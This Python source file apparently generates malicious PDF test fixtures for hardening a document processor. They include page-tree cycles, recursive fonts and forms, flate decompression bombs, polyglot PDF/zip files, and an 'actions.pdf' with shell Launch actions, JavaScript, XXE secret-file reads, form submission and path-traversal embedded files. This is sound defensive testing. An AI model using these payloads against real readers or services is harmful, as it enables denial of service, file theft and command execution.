"""PDF files: cycles, bombs, fonts that loop, actions, lies."""

import struct
import zlib

from kit import HELVETICA, PDF, WORDS, Zip, made, page, repeated_deflated

PAPER = b"The delegation has the honour to state its position, and this is paper %d.\n"
FLATE = "/Filter /FlateDecode"


# The tree of pages

@made("page-tree-cycle.pdf")
def _(world):
    pdf = PDF()
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>")
    pdf.add("<< /Type /Pages /Parent 3 0 R /Kids [3 0 R 2 0 R] /Count 1000 >>")
    pdf.add("<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R 2 0 R] /Count 2000 >>")
    return pdf.bytes()


@made("page-tree-deep.pdf")
def _(world):
    pdf = PDF()
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>")
    depth = world.giant(100_000)
    for number in range(2, depth):
        pdf.add(f"<< /Type /Pages /Kids [{number + 1} 0 R] /Count 1 {f'/Parent {number - 1} 0 R' if number > 2 else ''} >>")
    pdf.add(f"<< /Type /Page /Parent {depth - 1} 0 R /MediaBox [0 0 9 9] >>")
    return pdf.bytes()


@made("page-tree-fan.pdf")
def _(world):
    pdf = PDF()
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>")
    for number in range(2, 40):
        pdf.add(f"<< /Type /Pages /Kids [{number + 1} 0 R {number + 1} 0 R] /Count {1 << 30} >>")
    pdf.add("<< /Type /Page /MediaBox [0 0 9 9] >>")
    return pdf.bytes()


def pages(count, content, box="0 0 612 792", same=True):
    pdf = PDF()
    pdf.add("<< /Type /Catalog /Pages 2 0 R >>")
    if same:
        pdf.add(f"<< /Type /Pages /Kids [{'3 0 R ' * count}] /Count {count} >>")
        pdf.add(f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R /Resources << {HELVETICA} >> >>")
        pdf.stream(content)
    else:
        pdf.add(f"<< /Type /Pages /Kids [{' '.join(f'{n} 0 R' for n in range(4, 4 + count))}] /Count {count} >>")
        pdf.stream(content)
        for _ in range(count):
            pdf.add(f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 3 0 R /Resources << {HELVETICA} >> >>")
    return pdf.bytes()


@made("pages-all-the-same.pdf")
def _(world):
    return pages(world.giant(100_000), WORDS)


@made("pages-many.pdf", slow=True)
def _(world):
    return pages(world.giant(100_000), WORDS, same=False)


@made("pages-empty.pdf")
def _(world):
    return pages(world.giant(20_000), "", same=False)


@made("pages-blank-pictures.pdf")
def _(world):
    picture = f"q 612 0 0 792 0 0 cm BI /W 8 /H 8 /CS /G /BPC 8 /F /AHx ID {'f4f5' * 32}> EI Q"
    return pages(world.giant(20_000), picture, same=False)


@made("pages-with-a-scratch.pdf", slow=True)
def _(world):
    return pages(2_000 if world.scale == 1 else 5, "4 w 100 100 m 150 170 l S", same=False)


@made("pages-counted-wrong.pdf")
def _(world):
    return page(WORDS, HELVETICA).replace(b"/Count 1", b"/Count 2147483647")


@made("pages-huge-boxes.pdf", slow=True)
def _(world):
    return pages(3, "0 0 m 1 1 l S", box="0 0 1e9 1e9")


for number, box in enumerate(("0 0 0 0", "0 0 -1 -1", "1e38 1e38 -1e38 -1e38", "0 0 1e9 0.0001", "0 0 nan inf", "0 0", "", "(a) /b <<>> []")):
    @made(f"box-{number}.pdf")
    def _(world, box=box):
        return page(WORDS, HELVETICA, box=box, entries="/UserUnit 1000000 /Rotate 45")


# What refers to itself

@made("object-stream-in-itself.pdf")
def _(world):
    inner = b"5 0 6 30 << /Type /Catalog /Pages 6 0 R >>  << /Type /Pages /Kids [] /Count 0 >>"
    body = b"%PDF-1.7\n"
    place = len(body)
    body += b"5 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Extends 5 0 R /Length " + str(len(inner)).encode() + b" >>\nstream\n" + inner + b"\nendstream\nendobj\n"
    table = len(body)
    rows = b"".join(struct.pack(">BIH", *row) for row in ((0, 0, 65535), (1, place, 0), (2, 5, 0), (2, 4, 0), (2, 2, 0), (2, 5, 0), (2, 5, 1), (1, table, 0)))
    body += (f"7 0 obj\n<< /Type /XRef /Size 8 /W [1 4 2] /Root 5 0 R /Prev {table} /Length {len(rows)} >>\nstream\n").encode() + rows
    return body + b"\nendstream\nendobj\nstartxref\n" + str(table).encode() + b"\n%%EOF\n"


@made("length-of-itself.pdf")
def _(world):
    return page(WORDS, HELVETICA).replace(b"/Length %d " % len(WORDS), b"/Length 4 0 R ")


@made("tables-that-precede-each-other.pdf")
def _(world):
    whole = page(WORDS, HELVETICA)
    table = whole.rindex(b"xref\n0")
    return whole.replace(b"trailer\n<<", b"trailer\n<< /Prev %d /XRefStm %d" % (table, table))


@made("table-of-giants.pdf")
def _(world):
    return page(WORDS, HELVETICA).replace(b"xref\n0 5", b"xref\n0 2147483647").replace(b"/Size 5", b"/Size 2147483647")


@made("references-in-a-circle.pdf")
def _(world):
    pdf = PDF()
    pdf.add("2 0 R")
    pdf.add("3 0 R")
    pdf.add("1 0 R")
    return pdf.bytes()


@made("nested-arrays.pdf")
def _(world):
    depth = world.giant(1_000_000)
    return page(WORDS, HELVETICA, entries="/X " + "[" * depth + "]" * depth)


@made("nested-dictionaries.pdf")
def _(world):
    return page(WORDS + " /P " + "<< /A " * world.giant(1_000_000), HELVETICA, catalog="/Y " + "<</A" * world.giant(1_000_000))


@made("resources-of-each-other.pdf")
def _(world):
    return page(WORDS + " /X Do", "/XObject << /X 5 0 R >> " + HELVETICA, more=[("/X Do " + WORDS, "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources 6 0 R"),
                                                                               "<< /XObject << /X 5 0 R >> /Parent 6 0 R >>"])


FORM = "/Type /XObject /Subtype /Form /BBox [0 0 612 792]"


@made("form-calls-itself.pdf")
def _(world):
    return page("/X Do", "/XObject << /X 5 0 R >>", more=[(WORDS + " /X Do /X Do", f"{FORM} /Resources << {HELVETICA} /XObject << /X 5 0 R >> >>")])


@made("forms-that-double.pdf", slow=True)
def _(world):
    more = [("/X Do /X Do", f"{FORM} /Resources << /XObject << /X {n + 1} 0 R >> >>") for n in range(5, 45)]
    return page("/X Do", "/XObject << /X 5 0 R >>", more=more + [(WORDS, f"{FORM} /Resources << {HELVETICA} >>")])


@made("forms-that-double-in-silence.pdf", slow=True)
def _(world):
    more = [("/X Do /X Do", f"{FORM} /Resources << /XObject << /X {n + 1} 0 R >> >>") for n in range(5, 24)]
    return page("/X Do", "/XObject << /X 5 0 R >>", more=more + [("0 0 m 9 9 l S", FORM)])


@made("pattern-in-itself.pdf", slow=True)
def _(world):
    tile = "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << /Pattern << /P 5 0 R >> >>"
    return page("/Pattern cs /P scn 0 0 612 792 re f", "/Pattern << /P 5 0 R >>", more=[("/Pattern cs /P scn 0 0 1 1 re f", tile)])


@made("mask-of-itself.pdf")
def _(world):
    picture = "/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray /SMask 5 0 R"
    return page("612 0 0 792 0 0 cm /I Do", "/XObject << /I 5 0 R >>", more=[(bytes(81), picture)])


@made("colours-of-themselves.pdf")
def _(world):
    return page("/C cs 1 scn 0 0 612 792 re f " + WORDS, HELVETICA + " /ColorSpace << /C 5 0 R >>",
                more=["[/Indexed 5 0 R 255 6 0 R]", "[/Separation /All 5 0 R 7 0 R]",
                      "<< /FunctionType 3 /Domain [0 1] /Functions [7 0 R 7 0 R] /Bounds [0.5] /Encode [0 1 0 1] >>"])


@made("outline-in-a-circle.pdf")
def _(world):
    return page(WORDS, HELVETICA, catalog="/Outlines 5 0 R /Names 7 0 R /Dests 5 0 R /PageLabels 7 0 R /StructTreeRoot 7 0 R",
                more=["<< /First 6 0 R /Last 6 0 R /Count 9 >>", "<< /Title (a) /Parent 5 0 R /Next 6 0 R /Prev 6 0 R /First 5 0 R >>",
                      "<< /Kids [7 0 R] /K 7 0 R /ParentTree 7 0 R /Dests 7 0 R /Type /StructTreeRoot >>"])


# Fonts

@made("type3-calls-itself.pdf")
def _(world):
    font = ("<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 /Widths [9] "
            "/Encoding << /Differences [65 /A] >> /CharProcs << /A 6 0 R >> /Resources << /Font << /G 5 0 R >> >> >>")
    return page("BT /G 9 Tf (AAAA) Tj ET", "/Font << /G 5 0 R >>", more=[font, ("9 0 d0 BT /G 9 Tf (AAAA) Tj ET", "")])


@made("type3-fonts-that-double.pdf", slow=True)
def _(world):
    more = []
    for n in range(15):
        font = 5 + 2 * n
        more.append("<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 65 /LastChar 65 /Widths [9] "
                    f"/Encoding << /Differences [65 /A] >> /CharProcs << /A {font + 1} 0 R >> /Resources << /Font << /G {font + 2} 0 R >> >> >>")
        more.append(("9 0 d0 BT /G 9 Tf (AAAAAAAA) Tj ET", ""))
    return page("BT /G 9 Tf (AAAA) Tj ET", "/Font << /G 5 0 R >>", more=more)


def index(items):
    """A CFF INDEX."""
    if not items:
        return b"\0\0"
    offsets, place = [], 1
    for item in items:
        offsets.append(place)
        place += len(item)
    return struct.pack(">HB", len(items), 4) + b"".join(struct.pack(">I", at) for at in offsets + [place]) + b"".join(items)


def cff(glyph, subroutines):
    """A font of one glyph besides .notdef; subroutines are called by number from -107."""
    def number(value):
        return b"\x1d" + struct.pack(">i", value)

    def top(charstrings, private, size):
        return index([number(charstrings) + b"\x11" + number(size) + number(private) + b"\x12"])

    start = b"\1\0\4\4" + index([b"Loop"])
    rest = index([]) + index([])
    charstrings = index([b"\x0e", glyph])
    private = number(6) + b"\x13"
    at = len(start) + len(top(0, 0, 0)) + len(rest)
    return start + top(at, at + len(charstrings), len(private)) + rest + charstrings + private + index(subroutines)


def font_page(program, kind="/FontFile3", subtype="/Subtype /Type1C"):
    """A page whose glyphs have no letters, so that it is taken for a picture and drawn, which runs the glyphs' programs."""
    return page("BT /G 40 Tf 72 700 Td (\\001\\001\\001\\001) Tj ET", "/Font << /G 5 0 R >>",
                more=["<< /Type /Font /Subtype /Type1 /BaseFont /Loop /FirstChar 1 /LastChar 1 /Widths [600] /FontDescriptor 6 0 R "
                      "/Encoding << /Differences [1 /space] >> /ToUnicode 8 0 R >>",
                      f"<< /Type /FontDescriptor /FontName /Loop /Flags 4 /FontBBox [0 0 600 600] {kind} 7 0 R >>",
                      (program, subtype), ("1 begincodespacerange <01> <01> endcodespacerange 1 beginbfchar <01> <0020> endbfchar", "")])


@made("glyph-calls-itself.pdf", slow=True)
def _(world):
    return font_page(cff(bytes([139 - 107, 10, 14]), [bytes([139 - 107, 10, 11])]))


@made("glyphs-that-multiply.pdf", slow=True)
def _(world):
    # Nine levels, each calling the next forty times.
    levels = [bytes([139 - 107 + n + 1, 10]) * 40 + b"\x0b" for n in range(8)] + [b"\x8b\x8b\x05" * 40 + b"\x0b"]
    return font_page(cff(b"\x8b\x8b\x15" + bytes([139 - 107, 10]) * 40 + b"\x0e", levels))


@made("font-is-noise.pdf", slow=True)
def _(world):
    return font_page(world.chance.randbytes(20_000), world.chance.choice(("/FontFile", "/FontFile2", "/FontFile3")), "")


def mapped(cmap, encoding="/Identity-H", extra=()):
    """A page in a font whose characters are told by a map."""
    return page("BT /G 12 Tf 72 700 Td <0001000200030041> Tj ET", "/Font << /G 5 0 R >>",
                more=[f"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding {encoding} /DescendantFonts [6 0 R] /ToUnicode 7 0 R >>",
                      "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> "
                      "/W [0 2147483647 500 1 [500 500]] /DW 1000 >>", (cmap, "/UseCMap 7 0 R")] + list(extra))


@made("map-of-everything.pdf", slow=True)
def _(world):
    return mapped("1 begincodespacerange <00000000> <ffffffff> endcodespacerange\n" + "1 beginbfrange <00000000> <ffffffff> <0041> endbfrange\n" * 10)


@made("map-of-giants.pdf", slow=True)
def _(world):
    return mapped("1 begincodespacerange <0000> <ffff> endcodespacerange\n" + f"100 beginbfrange\n{'<0000> <ffff> <' + '0041' * 200 + '>' + chr(10)}" * world.giant(3000) + "endbfrange")


@made("map-by-itself.pdf")
def _(world):
    return mapped("/Self usecmap 1 begincidrange <0000> <ffffffff> 0 endcidrange", "8 0 R",
                  [("1 begincidrange <00000000> <3b9aca00> 0 endcidrange", "/Type /CMap /CMapName /Self /UseCMap 8 0 R")])


@made("fonts-without-end.pdf")
def _(world):
    count = world.giant(50_000)
    fonts = "".join(f"/F{n} << /Type /Font /Subtype /Type1 /BaseFont /Font{n} >> " for n in range(count))
    return page("BT " + "".join(f"/F{n} 12 Tf (a) Tj " for n in range(count)) + "ET", f"/Font << {fonts} >>")


# Bombs

@made("flate-bomb.pdf", slow=True)
def _(world):
    packed = raw_zlib(b" ", 2 << 30)
    return page((packed, FLATE), HELVETICA)


def raw_zlib(unit, count):
    return b"\x78\xda" + repeated_deflated(unit, count)[0] + bytes(4)


@made("flate-of-flate.pdf", slow=True)
def _(world):
    packed = raw_zlib(b"(and so on) Tj ", (1 << 30) // 15)
    for _ in range(3):
        packed = zlib.compress(packed, 9)
    return page((packed, "/Filter [" + "/FlateDecode " * 4 + "]"), HELVETICA)


@made("text-bomb.pdf", slow=True)
def _(world):
    packed = raw_zlib(b"BT /F 1 Tf 1 1 Td (and so on and so on) Tj ET\n", 2_000_000)
    return page((packed, FLATE), HELVETICA)


@made("text-everywhere.pdf", slow=True)
def _(world):
    chance = world.chance
    text = "".join(f"1 0 0 1 {chance.randrange(600)} {chance.randrange(790)} Tm ({chr(97 + n % 26)}) Tj\n" for n in range(world.giant(600_000)))
    return page(f"BT /F 3 Tf {text} ET", HELVETICA)


@made("filters-without-end.pdf", slow=True)
def _(world):
    return page((b"00", "/Filter [" + "/ASCIIHexDecode " * 50_000 + "]"), HELVETICA)


@made("predictor.pdf")
def _(world):
    return page((zlib.compress(bytes(1000)), FLATE + " /DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 2147483647 /BitsPerComponent 32 >>"), HELVETICA)


for name, picture in {
    "raw": "/BitsPerComponent 8 /ColorSpace /DeviceGray", "dct": "/Filter /DCTDecode /BitsPerComponent 8 /ColorSpace /DeviceRGB",
    "jpx": "/Filter /JPXDecode", "jbig2": "/Filter /JBIG2Decode /BitsPerComponent 1 /ColorSpace /DeviceGray",
    "fax": "/Filter /CCITTFaxDecode /DecodeParms << /K -1 /Columns 65535 /Rows 65535 >> /BitsPerComponent 1 /ColorSpace /DeviceGray",
}.items():
    @made(f"picture-{name}.pdf", slow=True)
    def _(world, picture=picture):
        starts = {"/DCT": b"\xff\xd8\xff\xc0\0\x11\x08\xff\xff\xff\xff\x03\1\x11\0\2\x11\0\3\x11\0", "/JPX": b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 "}
        start = next((start for word, start in starts.items() if word in picture), b"")
        return page("612 0 0 792 0 0 cm /I Do", "/XObject << /I 5 0 R >>",
                    more=[(start + world.chance.randbytes(500), f"/Type /XObject /Subtype /Image /Width 65535 /Height 65535 {picture}")])


@made("shading.pdf", slow=True)
def _(world):
    return page("0.001 0 0 0.001 0 0 cm /S sh", "/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1e9 0 1e9] /Function 5 0 R >> >>",
                more=[("{ " + "dup mul " * 10_000 + "pop }", "/FunctionType 4 /Domain [0 1e9 0 1e9] /Range [0 1]")])


# Actions and things outside

@made("actions.pdf", "read")
def _(world):
    host = f"127.0.0.1:{world.port}"
    secret = world.forbidden + "/secret.txt"
    actions = [f"/S /JavaScript /JS (app.launchURL\\('http://{host}/'\\); this.exportDataObject\\(\\);)", f"/S /URI /URI (http://{host}/uri)",
               f"/S /Launch /F (/bin/sh) /Unix (touch {world.forbidden}/launched)", f"/S /SubmitForm /F << /FS /URL /F (http://{host}/form) >>",
               f"/S /GoToR /F ({secret})", f"/S /ImportData /F (http://{host}/data)", f"/S /GoToE /F ({secret})"]
    chain = " ".join(f"<< {action} >>" for action in actions)
    return page(WORDS, HELVETICA, catalog=f"/OpenAction << {actions[0]} /Next [{chain}] >> /AA << /WC << {actions[1]} >> >> /URI << /Base (http://{host}/) >> "
                f"/AcroForm << /XFA 5 0 R /Fields [] >>", entries=f"/AA << /O << {actions[2]} >> >>",
                more=[f"<!DOCTYPE x [<!ENTITY f SYSTEM 'file://{secret}'><!ENTITY h SYSTEM 'http://{host}/xfa'>]><x>&f;&h;</x>".join(("(", ")"))])


@made("stream-in-another-file.pdf")
def _(world):
    secret = world.forbidden + "/secret.txt"
    return page(("", f"/F ({secret})"), HELVETICA, more=[("", f"/F << /FS /URL /F (http://127.0.0.1:{world.port}/stream) >>")])


@made("files-within.pdf", "read")
def _(world):
    names = " ".join(f"(n{n}) << /Type /Filespec /F ({'../' * 40}{world.forbidden[1:]}/embedded-{n}) /EF << /F 5 0 R >> >>" for n in range(50))
    return page(WORDS, HELVETICA, catalog=f"/Names << /EmbeddedFiles << /Names [{names}] >> >>", more=[(PAPER % 1, "/Type /EmbeddedFile")])


@made("notes-without-end.pdf")
def _(world):
    count = world.giant(100_000)
    return page(WORDS, HELVETICA, entries="/Annots [" + "5 0 R " * count + "]",
                more=["<< /Type /Annot /Subtype /Widget /Rect [0 0 9 9] /AP << /N 6 0 R >> /Parent 5 0 R /Kids [5 0 R] /FT /Tx >>", (WORDS, FORM)])


@made("encrypted-strangely.pdf", "refused")
def _(world):
    key = "5A" * 32
    return page(WORDS, HELVETICA, trailer=f"/Encrypt << /Filter /Standard /V {world.chance.choice((1, 2, 4, 5, -1, 99))} /R {world.chance.choice((2, 3, 6, -7, 99))} "
                f"/Length 2147483647 /O <{key}> /U <{key}> /P -4 >>")


# Types

@made("pdf-that-is-a-zip-too.pdf")
def _(world):
    archive = Zip().add("inner.txt", PAPER % world.chance.randrange(1 << 60)).add(f"{'../' * 30}{world.forbidden[1:]}/both.txt", PAPER % 2).bytes()
    return page(WORDS, HELVETICA) + archive + b"\n%%EOF\n"


@made("zip-that-is-a-pdf-too.zip")
def _(world):
    inner = page(WORDS, HELVETICA)
    return Zip().add("a.pdf", inner, packed=inner, method=0).bytes(comment=b"%%EOF")


@made("zip-named.pdf", media="application/pdf")
def _(world):
    return Zip().add("inner.txt", PAPER % world.chance.randrange(1 << 60)).bytes()


@made("text-named.pdf", "refused", "application/pdf")
def _(world):
    return PAPER % 7 + b"%%EOF\n"


@made("pdf-named.docx", media="application/vnd.openxmlformats-officedocument.wordprocessingml.document")
def _(world):
    return page(WORDS, HELVETICA)


@made("only-the-first-and-last-line.pdf", "refused")
def _(world):
    return b"%PDF-1.7\n%%EOF\n"


@made("ends-without-end.pdf")
def _(world):
    return page(WORDS, HELVETICA) + b"%%EOF\n" * world.giant(1_000_000)


@made("objects-without-end.pdf")
def _(world):
    return b"%PDF-1.4\n" + b"".join(b"%d 0 obj\n" % n for n in range(world.giant(2_000_000))) + b"%%EOF\n"
